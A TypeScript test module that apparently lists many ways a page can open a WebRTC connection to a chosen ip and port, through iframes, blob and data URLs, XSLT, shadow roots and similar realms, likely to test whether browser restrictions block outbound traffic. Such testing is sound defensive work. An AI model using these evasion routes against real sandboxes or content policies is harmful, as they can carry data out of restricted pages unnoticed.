// WebRTC, in the page itself and in every other realm that a page can make.
import { element, text } from "./parts.js";
import type { Channel, Target } from "./sink.js";

const rtc = ({ ip, port }: Target) =>
  `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: "turn:${ip}:${port}?transport=udp", username: "secret", credential: "x" },
      { urls: "turn:${ip}:${port}?transport=tcp", username: "secret", credential: "x" },
      { urls: "stun:${ip}:${port}" },
    ] });
    window.kept = peer;
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  })();`;

/** A document that does it in a realm of its own. */
const rtcPage = (to: Target) => `<!doctype html><script>${rtc(to)}</script>`;

/** A script that puts HTML with a frame into the page in some way. */
const framed = (put: (html: string) => string) => (to: Target) =>
  put(
    text(`<iframe srcdoc="${rtcPage(to).replaceAll('"', "&quot;")}"></iframe>`),
  );

export const WEBRTC: Channel[] = [
  { name: "webrtc", script: rtc },
  { name: "webrtc-inline", content: (to) => `<script>${rtc(to)}</script>` },
  {
    name: "webrtc-prefixed",
    script: (to) =>
      `{ const RTCPeerConnection = window.webkitRTCPeerConnection ?? window.mozRTCPeerConnection; ${rtc(to)} }`,
  },
  {
    name: "webrtc-srcdoc",
    script: (to) => `
      const frame = document.createElement("iframe");
      frame.srcdoc = ${text(rtcPage(to))};
      document.body.append(frame);`,
  },
  {
    name: "webrtc-srcdoc-attribute",
    ...element("iframe", (to) => ({ srcdoc: rtcPage(to) })),
  },
  {
    name: "webrtc-namespace",
    script: (to) => `
      const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
      frame.setAttribute("srcdoc", ${text(rtcPage(to))});
      document.body.append(frame);`,
  },
  {
    name: "webrtc-blank",
    script: (to) => `
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const { RTCPeerConnection } = frame.contentWindow;
      ${rtc(to)}`,
  },
  {
    name: "webrtc-javascript-url",
    ...element("iframe", (to) => ({ src: `javascript:${rtc(to)}` })),
  },
  {
    name: "webrtc-blob",
    script: (to) => `
      const frame = document.createElement("iframe");
      frame.src = URL.createObjectURL(new Blob([${text(rtcPage(to))}], { type: "text/html" }));
      document.body.append(frame);`,
  },
  {
    name: "webrtc-data",
    ...element("iframe", (to) => ({
      src: `data:text/html,${encodeURIComponent(rtcPage(to))}`,
    })),
  },
  {
    name: "webrtc-object",
    ...element("object", (to) => ({
      data: `data:text/html,${encodeURIComponent(rtcPage(to))}`,
    })),
  },
  {
    name: "webrtc-content",
    content: framed((html) => JSON.parse(html) as string),
  },
  {
    name: "webrtc-inner-html",
    script: framed((html) => `document.body.innerHTML = ${html};`),
  },
  {
    name: "webrtc-adjacent-html",
    script: framed(
      (html) => `document.body.insertAdjacentHTML("beforeend", ${html});`,
    ),
  },
  {
    name: "webrtc-fragment",
    script: framed(
      (html) =>
        `document.body.append(document.createRange().createContextualFragment(${html}));`,
    ),
  },
  {
    name: "webrtc-unsafe-html",
    script: framed((html) => `document.body.setHTMLUnsafe(${html});`),
  },
  {
    name: "webrtc-template",
    script: framed(
      (html) => `
      const made = document.createElement("template");
      made.innerHTML = ${html};
      document.body.append(made.content.cloneNode(true));`,
    ),
  },
  {
    name: "webrtc-parser",
    script: framed(
      (html) => `
      const made = new DOMParser().parseFromString(${html}, "text/html");
      document.body.append(document.adoptNode(made.querySelector("iframe")));`,
    ),
  },
  {
    name: "webrtc-xhtml",
    script: (to) => `
      const made = new DOMParser().parseFromString(
        '<!DOCTYPE x [<!ENTITY e "&#60;y:if' + 'rame xmlns:y=\\'http://www.w3.org/1999/xhtml\\'/>">]><x>&e;</x>', "text/xml");
      const frame = document.importNode(made.documentElement.firstChild, true);
      frame.setAttribute("srcdoc", ${text(rtcPage(to))});
      document.body.append(frame);`,
  },
  {
    name: "webrtc-create-document",
    script: (to) => `
      const made = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe");
      const frame = document.adoptNode(made.documentElement);
      frame.setAttribute("srcdoc", ${text(rtcPage(to))});
      document.body.append(frame);`,
  },
  {
    name: "webrtc-custom-element",
    script: (to) => `
      class Made extends HTMLIFrameElement {}
      customElements.define("made-frame", Made, { extends: "iframe" });
      const frame = new Made();
      frame.setAttribute("srcdoc", ${text(rtcPage(to))});
      document.body.append(frame);`,
  },
  {
    name: "webrtc-xslt",
    script: (to) => `
      const parse = (xml) => new DOMParser().parseFromString(xml, "text/xml");
      const processor = new XSLTProcessor();
      processor.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
        '<xsl:template match="/"><xsl:element name="ifr{/x}" namespace="http://www.w3.org/1999/xhtml"/></xsl:template></xsl:stylesheet>'));
      const frame = processor.transformToFragment(parse("<x>ame</x>"), document).firstChild;
      frame.setAttribute("srcdoc", ${text(rtcPage(to))});
      document.body.append(frame);`,
  },
  {
    name: "webrtc-write",
    script: framed(
      (html) => `
      const html = ${html};
      document.open();
      document.write(html.slice(0, 4));
      document.write(html.slice(4));
      document.close();`,
    ),
  },
  {
    name: "webrtc-shadow",
    content: (to) =>
      `<div><template shadowrootmode="closed"><iframe srcdoc="${rtcPage(to).replaceAll('"', "&quot;")}"></iframe></template></div>`,
  },
  {
    name: "webrtc-exec-command",
    script: framed(
      (html) => `
      document.body.contentEditable = "true";
      document.body.focus();
      getSelection().selectAllChildren(document.body);
      document.execCommand("insertHTML", false, ${html});`,
    ),
  },
  {
    name: "webrtc-self-javascript",
    script: (to) =>
      `location.href = "javascript:" + ${text(text(rtcPage(to)))};`,
  },
  {
    name: "webrtc-self-blob",
    script: (to) =>
      `location.href = URL.createObjectURL(new Blob([${text(rtcPage(to))}], { type: "text/html" }));`,
  },
  {
    name: "webrtc-self-data",
    script: (to) =>
      `location.href = ${text(`data:text/html,${encodeURIComponent(rtcPage(to))}`)};`,
  },
];
